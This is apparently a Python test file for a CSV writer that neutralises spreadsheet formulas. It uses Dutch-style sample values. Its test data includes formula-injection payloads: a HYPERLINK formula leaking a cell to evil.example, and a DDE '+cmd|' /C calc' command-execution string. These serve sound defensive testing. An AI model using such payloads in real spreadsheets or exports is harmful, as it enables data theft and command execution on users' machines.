"""The one CSV writer: what a spreadsheet would run as a formula comes out as text, without a mark a reader
sees; what is no formula comes out exactly as given."""
from __future__ import annotations

import csv
import io

import pytest

from pipeline.domain.csv_output import NEUTRAL, csv_text, text_cell


def _read_back(value: object) -> str:
    [[cell, after]] = list(csv.reader(io.StringIO(csv_text([[value, "x"]]), newline="")))
    assert after == "x"
    return cell


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")', "+SUM(1)", "@cmd", "-1+1", "=1+1", "@SUM(A1)",
    "+cmd|' /C calc'!A0", "- 2", "--1", "+32 470 12 34 56", "\uff1d1+1", "\uff20SUM(1)",
])
def test_a_formula_is_read_back_as_the_text_it_was_behind_an_invisible_mark(value):
    cell = _read_back(value)
    assert cell == NEUTRAL + value
    assert cell.replace(NEUTRAL, "") == value  # nothing else added: the reader sees what was typed


@pytest.mark.parametrize("value, cell", [
    ("\t=1+1", f"\t{NEUTRAL}=1+1"), ("\r=1+1", f"\r{NEUTRAL}=1+1"), ("  =1+1", f"  {NEUTRAL}=1+1"),
    # A program splitting at another separator than ours (a Dutch Excel splits at ";") meets each part as a cell.
    ("Postbus 1;=HYPERLINK(\"x\")", f"Postbus 1;{NEUTRAL}=HYPERLINK(\"x\")"), ("a,-b", f"a,{NEUTRAL}-b"),
    ("regel 1\r\n@cmd", f"regel 1\r\n{NEUTRAL}@cmd"),
])
def test_a_formula_after_whitespace_or_a_separator_is_neutralised_where_it_starts(value, cell):
    assert text_cell(value) == cell


@pytest.mark.parametrize("value", [
    "+31612345678", "06 12345678", "-", "+", "-42", "-3.50", "a=b", "jan+nieuws@example.nl", "Straat 1, 1234 AB  STAD",
    "Keizersgracht 1, -", "2026-12-07", "", "Afgeleverd",
])
def test_what_is_no_formula_stays_exactly_as_given(value):
    assert _read_back(value) == value


def test_none_is_an_empty_cell_and_a_number_its_digits():
    assert _read_back(None) == "" and _read_back(7) == "7"
